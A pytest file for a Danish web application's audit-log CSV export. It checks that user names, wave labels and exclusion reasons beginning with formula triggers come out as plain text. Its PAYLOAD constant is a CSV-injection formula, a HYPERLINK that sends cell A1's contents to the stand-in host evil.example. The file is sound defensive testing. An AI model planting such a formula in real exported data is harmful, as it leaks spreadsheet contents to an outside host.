"""Names and labels typed to start a formula stay text in the downloaded audit-log CSV."""
from __future__ import annotations

import csv
import io
import re
from datetime import timedelta

import pytest
from sqlalchemy import select

from app.extensions import db
from app.models import Message, utcnow
from tests.conftest import extract_csrf
from tests.waves.factories import add_wave

TRIGGERS = ["=", "+", "-", "@", "\t", "\r"]
PAYLOAD = "HYPERLINK(\"https://evil.example/?\"&A1;\"klik\")"


@pytest.fixture
def coordinator(client, make_user, login):
    uid, email, password = make_user("coordinator")
    login(client, email, password)
    return uid


def _rows(client) -> list[list[str]]:
    response = client.get("/log/log.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"), newline=""),
                           delimiter=";"))


def _invite_and_accept(app, client, name: str, email: str) -> None:
    token = extract_csrf(client.get("/brugere/inviter").get_data(as_text=True))
    assert client.post("/brugere/inviter", data={"name": name, "email": email, "role": "coordinator",
                                                  "municipality_id": "", "csrf_token": token}).status_code == 302
    with app.app_context():
        body = db.session.scalar(select(Message.body).where(Message.recipient == email))
    link = re.search(r"https?://[^/\s]+(/brugere/invitation/\S+)", body).group(1)
    visitor = app.test_client()
    form = visitor.get(link)
    assert visitor.post(link, data={"password": "en-god-adgangskode", "confirm": "en-god-adgangskode",
                                    "csrf_token": extract_csrf(form.get_data(as_text=True))}).status_code == 302


def _never_a_formula(cell: str) -> None:
    assert not cell.startswith(tuple(TRIGGERS)), repr(cell)


@pytest.mark.parametrize("trigger", TRIGGERS, ids=["eq", "plus", "minus", "at", "tab", "cr"])
def test_a_user_name_starting_a_formula_is_text_in_the_who_column(app, client, coordinator, trigger):
    _invite_and_accept(app, client, trigger + PAYLOAD, "formel@example.dk")
    rows = _rows(client)
    accepted = [row for row in rows[1:] if "HYPERLINK" in row[1]]
    assert accepted, rows
    for row in rows[1:]:
        for cell in row:
            _never_a_formula(cell)
    # A leading tab or carriage return is trimmed off by the form; the other triggers get the text prefix.
    expected = "'" + trigger + PAYLOAD if trigger.strip() else PAYLOAD
    assert all(row[1] == expected for row in accepted), accepted


@pytest.mark.parametrize("trigger", TRIGGERS, ids=["eq", "plus", "minus", "at", "tab", "cr"])
def test_a_wave_label_starting_a_formula_is_never_a_formula_cell(app, client, coordinator, trigger):
    with app.app_context():
        wave = add_wave(status="draft", opens=utcnow() + timedelta(days=3), label=trigger + PAYLOAD)
        db.session.commit()
        wave_id = wave.id
    token = extract_csrf(client.get("/konto").get_data(as_text=True))
    assert client.post(f"/runder/{wave_id}/planlaeg", data={"csrf_token": token}).status_code == 302
    rows = _rows(client)
    mentioning = [row for row in rows[1:] if PAYLOAD in row[4]]
    assert mentioning, rows
    for row in rows[1:]:
        for cell in row:
            _never_a_formula(cell)


@pytest.mark.parametrize("trigger", TRIGGERS, ids=["eq", "plus", "minus", "at", "tab", "cr"])
def test_an_exclusion_reason_starting_a_formula_is_never_a_formula_cell(app, client, coordinator, trigger):
    from tests.waves.factories import open_wave_with_invitations

    with app.app_context():
        _wave, pairs = open_wave_with_invitations({"aalborg": 1}, municipalities=("aalborg",))
        db.session.commit()
        rid = pairs[0][0].respondent_id
    token = extract_csrf(client.get("/konto").get_data(as_text=True))
    excluded = client.post(f"/respondenter/{rid}/udeluk", data={"reason": trigger + PAYLOAD, "csrf_token": token})
    assert excluded.status_code == 302
    rows = _rows(client)
    assert [row for row in rows[1:] if PAYLOAD in row[4]], rows
    for row in rows[1:]:
        for cell in row:
            _never_a_formula(cell)
